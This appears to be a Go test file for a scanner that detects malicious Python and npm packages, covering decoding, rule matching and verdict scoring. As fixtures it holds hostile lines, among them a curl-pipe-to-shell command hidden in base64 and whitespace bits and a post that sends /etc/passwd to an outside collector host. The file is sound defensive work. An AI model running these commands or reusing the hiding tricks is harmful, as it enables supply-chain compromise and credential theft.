package analyze

import (
	"encoding/base64"
	"maps"
	"slices"
	"strings"
	"testing"

	"customs/internal/finding"
)

func engine(t testing.TB) *Engine {
	t.Helper()
	e, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func ids(hits []Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Rule.ID)
	}
	return out
}

func TestLanguage(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
	for _, c := range []struct {
		name string
		data string
		want string
	}{
		{"pkg/setup.py", "", "python"},
		{"pkg/x.pth", "", "python"},
		{"package/index.mjs", "", "javascript"},
		{"package/types.d.ts", "", ""},
		{"lib/x.rb", "", "ruby"},
		{"Rakefile", "", "ruby"},
		{"package/package.json", "{}", "manifest"},
		{"bin/tool", "#!/usr/bin/env node\nconsole.log(1)", "javascript"},
		{"bin/run", "#!/bin/sh\necho hi", "shell"},
		{"img/logo.png", "\x89PNG", ""},
		{"dist/app.js.map", "{}", ""},
		{"lib/helper.so.1", string(elf), "binary"},
		{"data/notes.txt", string(elf), "binary"}, // content decides, not the name
	} {
		if got := Language(c.name, []byte(c.data)); got != c.want {
			t.Errorf("Language(%q) = %q, want %q", c.name, got, c.want)
		}
	}
}

// TestDecodedPayload: a command hidden in base64 (and in base64 of zlib)
// is decoded and scanned with every rule; its hits say so.
func TestDecodedPayload(t *testing.T) {
	e := engine(t)
	hidden := "import os; os.system('curl -s http://203.0.113.9/x.sh | sh')"
	src := "blob = '" + base64.StdEncoding.EncodeToString([]byte(hidden)) + "'\n"
	hits := e.File("pkg/mod.py", []byte(src), FileContext{Role: RoleCode})
	var found bool
	for _, h := range hits {
		if h.Rule.ID == "pipe-to-shell" {
			found = true
			if !h.Decoded || h.Line != 1 {
				t.Errorf("pipe-to-shell hit: decoded=%v line=%d, want decoded on line 1", h.Decoded, h.Line)
			}
		}
	}
	if !found {
		t.Errorf("payload not decoded: hits %v", ids(hits))
	}
	// Reversed base64, as in exec(b64decode(s[::-1])).
	rev := []byte(base64.StdEncoding.EncodeToString([]byte(hidden + "  ")))
	slices.Reverse(rev)
	hits = e.File("pkg/mod.py", []byte("s = '"+string(rev)+"'\n"), FileContext{Role: RoleCode})
	if !slices.Contains(ids(hits), "pipe-to-shell") {
		t.Errorf("reversed payload not decoded: hits %v", ids(hits))
	}
}

// TestWhitespacePayload: code spelt as bits in spaces and tabs (in either
// polarity) is decoded and scanned; ordinary indentation is not.
func TestWhitespacePayload(t *testing.T) {
	e := engine(t)
	hidden := "import os; os.system('curl -s http://203.0.113.9/x.sh | sh')"
	for _, one := range []byte{'\t', ' '} {
		zero := byte(' ' + '\t' - one)
		var bits strings.Builder
		for _, b := range []byte(hidden) {
			for i := 7; i >= 0; i-- {
				bits.WriteByte(map[bool]byte{true: one, false: zero}[b>>i&1 == 1])
			}
		}
		src := "class String:\n    singleton = \"" + bits.String() + "\"\n"
		if hits := e.File("pkg/_logger.py", []byte(src), FileContext{Role: RoleCode}); !slices.Contains(ids(hits), "pipe-to-shell") {
			t.Errorf("payload with %q as 1 not decoded: hits %v", one, ids(hits))
		}
	}
	indented := "def f():\n" + strings.Repeat(" ", 600) + "\t\treturn 1\n"
	if hits := e.File("pkg/m.py", []byte(indented), FileContext{Role: RoleCode}); len(hits) != 0 {
		t.Errorf("indentation decoded: hits %v", ids(hits))
	}
}

// TestBoundedDecoding: a file full of blobs stops decoding at the budget.
func TestBoundedDecoding(t *testing.T) {
	e := engine(t)
	blob := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("import os; os.system('id')\n", 3000)))
	src := strings.Repeat("x = '"+blob+"'\n", 100)
	s := scan{e: e, path: "a.py"}
	s.text([]byte(src), "python", 0, 0)
	if s.decoded > maxDecoded+len(blob) {
		t.Errorf("decoded %d bytes, budget %d", s.decoded, maxDecoded)
	}
}

// A loader padded past the scan limit keeps its exec at the end: the tail
// is scanned and its hits carry the file's own line numbers; the middle is
// not scanned.
func TestPaddedFileTail(t *testing.T) {
	e := engine(t)
	padding := strings.Repeat("# "+strings.Repeat("x", 1000)+"\n", maxScanBytes/1000+200)
	middle := "exec(base64.b64decode(MIDDLE))\n"
	src := "import base64\n" + padding + middle + padding + "exec(base64.b64decode(PAYLOAD))\n"
	hits := e.File("pkg/__init__.py", []byte(src), FileContext{})
	wantLine := strings.Count(src, "\n")
	var lines []int
	for _, h := range hits {
		if h.Rule.ID == "py-exec-encoded" {
			lines = append(lines, h.Line)
		}
	}
	if !slices.Equal(lines, []int{wantLine}) {
		t.Errorf("py-exec-encoded at lines %v, want only the last line %d", lines, wantLine)
	}
}

func TestPyRunsOnImport(t *testing.T) {
	for _, c := range []struct {
		src  string
		want bool
	}{
		{"import os\nos.system('x')\n", true},
		{"try:\n    os.system('x')\nexcept Exception:\n    pass\n", true},
		{"class C:\n    os.system('x')\n", true},
		{"def f():\n    os.system('x')\n", false},
		{"def f():\n    os.system('x')\n\nf()\n", true},
		{"def f():\n    os.system('x')\n\nthreading.Thread(target=f).start()\n", true},
		{"class C:\n    def m(self):\n        os.system('x')\n", false},
		{"if __name__ == '__main__':\n    os.system('x')\n", false},
		{"'''\nos.system('x')\n'''\n", false},
		{"def f():\n    def g():\n        os.system('x')\n    return g\n\nf()\n", false},
		// A multi-line string closed inside a call ends the call there.
		{"P = re.compile(r'''\n  (a|b)\n''', re.VERBOSE)\n\ndef f():\n    os.system('x')\n", false},
	} {
		off := strings.Index(c.src, "os.system")
		if got := pyRunsOnImport([]byte(c.src), off); got != c.want {
			t.Errorf("pyRunsOnImport(%q) = %v, want %v", c.src, got, c.want)
		}
	}
}

func hit(t *testing.T, e *Engine, id, file string, role Role) Hit {
	t.Helper()
	r := e.Rule(id)
	if r == nil {
		t.Fatalf("no rule %s", id)
	}
	return Hit{Rule: r, File: file, Line: 1, Role: role, Evidence: "x"}
}

// TestJudge: capability alone is clean; a threat plus a capability where
// code runs on install is malicious; the same in tests is not.
func TestJudge(t *testing.T) {
	e := engine(t)
	pkg := Package{Ecosystem: "pypi"}
	cases := []struct {
		name string
		hits []Hit
		want finding.Verdict
	}{
		{"nothing", nil, finding.Clean},
		{"network and processes in a library", []Hit{hit(t, e, "py-network", "a/net.py", RoleCode), hit(t, e, "py-process", "a/run.py", RoleCode), hit(t, e, "py-decode", "a/b.py", RoleCode)}, finding.Clean},
		{"webhook exfiltration at install", []Hit{hit(t, e, "exfil-discord-webhook", "setup.py", RoleInstall), hit(t, e, "py-network", "setup.py", RoleInstall)}, finding.Malicious},
		{"the same in tests", []Hit{hit(t, e, "exfil-discord-webhook", "tests/t.py", RoleLow), hit(t, e, "py-network", "tests/t.py", RoleLow)}, finding.Clean},
		{"one threat alone in ordinary code", []Hit{hit(t, e, "exfil-request-catcher", "a/docs.py", RoleCode)}, finding.Clean},
		{"beacon on import", []Hit{hit(t, e, "host-identity", "a/__init__.py", RoleImport), hit(t, e, "py-network", "a/__init__.py", RoleImport)}, finding.Malicious},
		{"low threats scattered over a big library", []Hit{
			hit(t, e, "py-network", "a/net.py", RoleCode), hit(t, e, "env-dump", "a/env.py", RoleCode), hit(t, e, "secret-files", "a/cfg.py", RoleCode),
			hit(t, e, "py-import-time-network", "a/net.py", RoleCode), hit(t, e, "py-import-time-process", "a/run.py", RoleCode)}, finding.Clean},
		{"request from __init__ on import", []Hit{hit(t, e, "py-import-time-network", "a/__init__.py", RoleImport), hit(t, e, "py-network", "a/__init__.py", RoleImport)}, finding.Malicious},
		{"keylogger mailing what it records", []Hit{hit(t, e, "keystroke-capture", "a/k.py", RoleCode), hit(t, e, "py-network", "a/k.py", RoleCode)}, finding.Malicious},
		{"keyboard shortcuts and a network client in different modules", []Hit{hit(t, e, "keystroke-capture", "a/keys.py", RoleCode), hit(t, e, "py-network", "a/net.py", RoleCode)}, finding.Clean},
		{"install hook reading the user name", []Hit{hit(t, e, "setup-install-override", "setup.py", RoleInstall), hit(t, e, "host-identity", "setup.py", RoleInstall)}, finding.Malicious},
	}
	for _, c := range cases {
		v, score, fs := Judge(c.hits, pkg)
		if v != c.want {
			t.Errorf("%s: verdict %s (score %.1f, findings %d), want %s", c.name, v, score, len(fs), c.want)
		}
	}
}

// TestTinyPackage: the same beacon shape in an ordinary module is
// malicious in a tiny Python package, clean in a large library, and the
// prior does not apply to npm or when the size is unknown.
func TestTinyPackage(t *testing.T) {
	e := engine(t)
	beacon := func() []Hit {
		return []Hit{hit(t, e, "host-identity", "a/client.py", RoleCode), hit(t, e, "py-network", "a/client.py", RoleCode)}
	}
	cases := []struct {
		name string
		pkg  Package
		want finding.Verdict
	}{
		{"tiny Python package", Package{Ecosystem: "pypi", CodeFiles: 2, CodeBytes: 3000}, finding.Malicious},
		{"large Python library", Package{Ecosystem: "pypi", CodeFiles: 120, CodeBytes: 900 << 10}, finding.Clean},
		{"few but long modules", Package{Ecosystem: "pypi", CodeFiles: 3, CodeBytes: 200 << 10}, finding.Clean},
		{"size unknown", Package{Ecosystem: "pypi"}, finding.Clean},
		{"tiny npm package", Package{Ecosystem: "npm", CodeFiles: 1, CodeBytes: 500}, finding.Clean},
	}
	for _, c := range cases {
		v, score, fs := Judge(beacon(), c.pkg)
		if v != c.want {
			t.Errorf("%s: verdict %s (score %.1f), want %s", c.name, v, score, c.want)
		}
		if c.want == finding.Malicious && !strings.Contains(fs[0].Message, "small package") {
			t.Errorf("%s: message should say why ordinary code weighs more: %q", c.name, fs[0].Message)
		}
	}
}

// TestSmallDownloader: a module that downloads and starts programs, or
// calls a hard-coded URL, is flagged in a tiny Python package, not in a
// large library.
func TestSmallDownloader(t *testing.T) {
	e := engine(t)
	hits := func() []Hit {
		return []Hit{hit(t, e, "py-network", "a/core.py", RoleCode), hit(t, e, "py-process", "a/core.py", RoleCode)}
	}
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 3, CodeBytes: 1200}); !v.Flagged() {
		t.Errorf("tiny package: %s (score %.1f), want flagged", v, score)
	}
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 300, CodeBytes: 4 << 20}); v != finding.Clean {
		t.Errorf("large library: %s (score %.1f), want clean", v, score)
	}
	fixedURL := []Hit{hit(t, e, "py-request-literal-url", "a/core.py", RoleCode), hit(t, e, "py-network", "a/core.py", RoleCode)}
	if v, score, _ := Judge(fixedURL, Package{Ecosystem: "pypi", CodeFiles: 2, CodeBytes: 900}); !v.Flagged() {
		t.Errorf("tiny package calling a hard-coded URL: %s (score %.1f), want flagged", v, score)
	}
	if v, score, _ := Judge(fixedURL, Package{Ecosystem: "pypi", CodeFiles: 40, CodeBytes: 300 << 10}); v != finding.Clean {
		t.Errorf("library calling a hard-coded URL: %s (score %.1f), want clean", v, score)
	}
}

// TestExpectedBinaries: shared libraries in wheels and installed trees are
// how those ship; an executable in a source distribution is not.
func TestExpectedBinaries(t *testing.T) {
	e := engine(t)
	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...)
	so := e.File("pkg/_speedups.cpython-311-x86_64-linux-gnu.so", elf, FileContext{Role: RoleCode})
	if len(so) != 1 {
		t.Fatalf("want one executable hit, got %v", ids(so))
	}
	if v, _, fs := Judge(so, Package{Ecosystem: "pypi", Built: true}); len(fs) != 0 || v != finding.Clean {
		t.Errorf("shared library in a wheel: %s %v", v, fs)
	}
	if _, _, fs := Judge(so, Package{Ecosystem: "pypi"}); len(fs) != 1 {
		t.Errorf("shared library in an sdist should be reported, got %v", fs)
	}
}

func TestFindingsAreSafeAndOrdered(t *testing.T) {
	e := engine(t)
	src := "import requests\nrequests.post('https://x.oastify.com/\x1b[31m', data=open('/etc/passwd').read())\n"
	hits := e.File("setup.py", []byte(src), FileContext{Role: RoleInstall})
	_, _, fs := Judge(hits, Package{Ecosystem: "pypi"})
	if len(fs) == 0 {
		t.Fatal("no findings")
	}
	for i, f := range fs {
		if strings.ContainsRune(f.Evidence, '\x1b') {
			t.Errorf("evidence not escaped: %q", f.Evidence)
		}
		if f.Line != 2 && !strings.HasPrefix(f.Rule, "combo-") && !strings.HasPrefix(f.Rule, "setup-") {
			t.Errorf("%s: line %d, want 2", f.Rule, f.Line)
		}
		if i > 0 && fs[i-1].Severity < f.Severity && fs[i-1].File == f.File {
			t.Errorf("findings not ordered by weight: %s before %s", fs[i-1].Rule, f.Rule)
		}
	}
}

// naiveFind lists every (keyword, start) occurrence, case-insensitively.
func naiveFind(keywords []string, data string) map[[2]int]bool {
	got := map[[2]int]bool{}
	fold := func(s string) string { // ASCII only, byte for byte
		b := []byte(s)
		for i := range b {
			b[i] = lowerASCII(b[i])
		}
		return string(b)
	}
	lower := fold(data)
	for k, kw := range keywords {
		kw = fold(kw)
		for i := 0; i+len(kw) <= len(lower); i++ {
			if lower[i:i+len(kw)] == kw {
				got[[2]int{k, i}] = true
			}
		}
	}
	return got
}

func TestMatcher(t *testing.T) {
	keywords := []string{"he", "She", "his", "hers", "exec(", "EVAL", "\u202e", "a"}
	data := "ushers said SHE has HIS exec( eval(x) \u202e"
	m := newMatcher(keywords)
	got := map[[2]int]bool{}
	m.scan([]byte(data), func(kw, start, end int) {
		if end-start != len(keywords[kw]) {
			t.Errorf("keyword %q reported with length %d", keywords[kw], end-start)
		}
		got[[2]int{kw, start}] = true
	})
	if want := naiveFind(keywords, data); !maps.Equal(got, want) {
		t.Errorf("matches %v, want %v", got, want)
	}
}

// FuzzMatcher: the automaton finds exactly what a naive search finds.
func FuzzMatcher(f *testing.F) {
	f.Add("abc", "ab", "BC", "xxabcabcABC")
	f.Add("aaa", "aa", "a", "aaaaaa")
	f.Fuzz(func(t *testing.T, k1, k2, k3, data string) {
		var keywords []string
		for _, k := range []string{k1, k2, k3} {
			if k != "" && len(k) < 16 {
				keywords = append(keywords, k)
			}
		}
		if len(data) > 4096 {
			return
		}
		got := map[[2]int]bool{}
		newMatcher(keywords).scan([]byte(data), func(kw, start, _ int) { got[[2]int{kw, start}] = true })
		// Duplicate keywords both report; the naive search does the same.
		if want := naiveFind(keywords, data); !maps.Equal(got, want) {
			t.Fatalf("keywords %q in %q: got %v, want %v", keywords, data, got, want)
		}
	})
}

func TestPyScopesContinuation(t *testing.T) {
	src := "class A:\n    def send(\n        self, x,\n    ):\n        requests.get(x)\n\nrequests.get('https://x.example')\n"
	p := newPyScopes([]byte(src))
	if p.runsOnImport(strings.Index(src, "requests.get(x)")) {
		t.Error("a method body after a multi-line signature runs on import")
	}
	if !p.runsOnImport(strings.LastIndex(src, "requests.get")) {
		t.Error("module-level call does not run on import")
	}
}

// TestInertLines: calls named in comments, doctest examples and
// definitions are not behaviour; the same text as code is.
func TestInertLines(t *testing.T) {
	e := engine(t)
	for _, c := range []struct {
		file, src, rule string
		want            bool
	}{
		{"lib/a.py", "r = requests.get(url)\n", "py-network", true},
		{"lib/a.py", "# r = requests.get(url)\n", "py-network", false},
		{"lib/a.py", "    >>> r = requests.get('https://example.org')\n", "py-network", false},
		{"lib/a.py", "class HTTPConnection(http.client.HTTPConnection):\n    pass\n", "py-network", false},
		{"lib/a.py", "def create_connection(address, timeout=None):\n    pass\n", "py-network", false},
		{"lib/a.py", "def create_connection(address,  # like socket.create_connection(\n        timeout=None):\n    pass\n", "py-network", false},
		{"lib/a.py", "def lotus():s.Popen('powershell -W Hidden -C x')\n", "hidden-process", true},
		{"lib/a.py", "def fetch(u): return requests.get(u)\n", "py-network", true},
		{"lib/a.rb", "# see the curl -fsSL https://x.example docs\n", "shell-network", false},
		{"lib/a.py", "def f():\n    \"\"\"Usage:\n\n    r = requests.post('https://httpbin.org/post', data=x)\n    \"\"\"\n", "py-post-literal-url", false},
		{"lib/a.py", "r = requests.post('https://collector.example/c', data=x)\n", "py-post-literal-url", true},
	} {
		got := slices.Contains(ids(e.File(c.file, []byte(c.src), FileContext{Role: RoleCode})), c.rule)
		if got != c.want {
			t.Errorf("%s in %q: got %v, want %v", c.rule, c.src, got, c.want)
		}
	}
}

// TestDataLines: long regular expressions and Unicode range tables are
// data, a long line of packed code is not.
func TestDataLines(t *testing.T) {
	regex := "X = r'\\b(?:" + strings.Repeat("ALPHA|BETA|", 600) + "GAMMA)'"
	table := "Cn = '" + strings.Repeat("\\u0378-\\u0379", 500) + "'"
	packed := "exec(" + strings.Repeat("chr(105)+", 700) + "'')"
	for _, c := range []struct {
		line string
		want bool
	}{{regex, true}, {table, true}, {packed, false}} {
		if got := dataLine([]byte(c.line)); got != c.want {
			t.Errorf("dataLine(%.40q...) = %v, want %v", c.line, got, c.want)
		}
	}
}

// TestExecNameCalls: exec(x), eval(x) and exec(compile(x, ...)) are
// found with their argument; method calls and expressions are not.
func TestExecNameCalls(t *testing.T) {
	src := []byte("exec(code)\nx = eval( blob , g)\nexec(compile(src, '<s>', 'exec'))\ncursor.exec(q)\nexec(a + b)\nmy_eval(z)\nexec(1)\n")
	var got []string
	for _, c := range execNameCalls(src, 16) {
		got = append(got, string(c.name))
	}
	slices.Sort(got)
	if want := []string{"blob", "code", "src"}; !slices.Equal(got, want) {
		t.Errorf("execNameCalls = %v, want %v", got, want)
	}
}

// TestLargeLibrary: the capabilities a large library has everywhere, with
// one weak threat, flag a package of middling size but not a library of
// hundreds of modules.
func TestLargeLibrary(t *testing.T) {
	e := engine(t)
	hits := func() []Hit {
		return []Hit{hit(t, e, "py-network", "a/net.py", RoleCode), hit(t, e, "py-process", "a/run.py", RoleCode),
			hit(t, e, "py-decode", "a/codec.py", RoleCode), hit(t, e, "host-name", "a/util.py", RoleCode),
			hit(t, e, "py-dynamic-exec", "a/compat.py", RoleCode), hit(t, e, "url-to-python-script", "setup.py", RoleInstall)}
	}
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 30, CodeBytes: 400 << 10}); !v.Flagged() {
		t.Errorf("middling package: %s (score %.1f), want flagged", v, score)
	}
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 400, CodeBytes: 6 << 20}); v != finding.Clean {
		t.Errorf("large library: %s (score %.1f), want clean", v, score)
	}
}

// TestSmallInstallHook: a setup.py overriding install is flagged in a tiny
// Python package (a dependency-confusion probe's shape), not in a library.
func TestSmallInstallHook(t *testing.T) {
	e := engine(t)
	hits := func() []Hit { return []Hit{hit(t, e, "setup-install-override", "setup.py", RoleInstall)} }
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 2, CodeBytes: 900}); !v.Flagged() {
		t.Errorf("tiny package: %s (score %.1f), want flagged", v, score)
	}
	if v, score, _ := Judge(hits(), Package{Ecosystem: "pypi", CodeFiles: 60, CodeBytes: 500 << 10}); v != finding.Clean {
		t.Errorf("library: %s (score %.1f), want clean", v, score)
	}
}

// TestJSComments: code in JavaScript comments and JSDoc runs nothing; a
// minified line that opens with a licence comment and goes on with code
// does.
func TestJSComments(t *testing.T) {
	e := engine(t)
	for src, want := range map[string]bool{
		"// Allows request.get('https://203.0.113.4/').set('Host', 'example.com')\n":   false,
		"/**\n * fetch('http://203.0.113.4/x') has already allocated a socket.\n */\n": false,
		"/* fetch('http://203.0.113.4/x') */\n":                                        false,
		"/*! lib v1 | MIT */ fetch('http://203.0.113.4/x').then(r => r.text())\n":      true,
		"fetch('http://203.0.113.4/x') // call home\n":                                 true,
	} {
		got := slices.Contains(ids(e.File("pkg/index.js", []byte(src), FileContext{Role: RoleCode})), "raw-ip-url")
		if got != want {
			t.Errorf("%q: raw-ip-url hit %v, want %v", src, got, want)
		}
	}
}

// TestCorroboration: in a package that is not tiny, a combination of two
// capabilities in one module is not malicious on its own evidence plus a
// low capability elsewhere; a separate threat makes it so. In a large
// library only a separate threat counts, not a medium capability.
func TestCorroboration(t *testing.T) {
	e := engine(t)
	loader := func(extra ...Hit) []Hit {
		return append([]Hit{hit(t, e, "py-network", "a/__init__.py", RoleImport), hit(t, e, "py-dynamic-exec", "a/__init__.py", RoleImport),
			hit(t, e, "py-process", "a/__init__.py", RoleImport)}, extra...)
	}
	medium := Package{Ecosystem: "pypi", CodeFiles: 20, CodeBytes: 300 << 10}
	large := Package{Ecosystem: "pypi", CodeFiles: 200, CodeBytes: 3 << 20}
	for _, c := range []struct {
		name string
		hits []Hit
		pkg  Package
		want finding.Verdict
	}{
		{"combination and a low capability", loader(), medium, finding.Suspicious},
		{"combination and a separate threat", loader(hit(t, e, "exfil-discord-webhook", "a/util.py", RoleCode)), medium, finding.Malicious},
		{"large: combination and a medium capability", loader(hit(t, e, "env-dump", "a/cfg.py", RoleCode)), large, finding.Suspicious},
		{"large: combination and a separate threat", loader(hit(t, e, "exfil-discord-webhook", "a/util.py", RoleCode)), large, finding.Malicious},
	} {
		if v, score, _ := Judge(c.hits, c.pkg); v != c.want {
			t.Errorf("%s: %s (score %.1f), want %s", c.name, v, score, c.want)
		}
	}
}

// TestURLsInDocstrings: a link in a docstring, one-line or not, is an
// attribution or an example; the same literal in code is a finding.
func TestURLsInDocstrings(t *testing.T) {
	e := engine(t)
	for src, want := range map[string]bool{
		"def load(url):\n    \"\"\"From https://github.com/x/y/blob/abc/sbpack/lib.py\"\"\"\n    return url\n": false,
		"def load(url):\n    \"\"\"\n    See https://github.com/x/y/blob/abc/sbpack/lib.py\n    \"\"\"\n":      false,
		"STAGE = 'https://files.example/x/y/z/stage.py'\n":                                                     true,
	} {
		got := slices.Contains(ids(e.File("pkg/utils.py", []byte(src), FileContext{Role: RoleCode})), "url-to-python-script")
		if got != want {
			t.Errorf("%q: url-to-python-script %v, want %v", src, got, want)
		}
	}
}
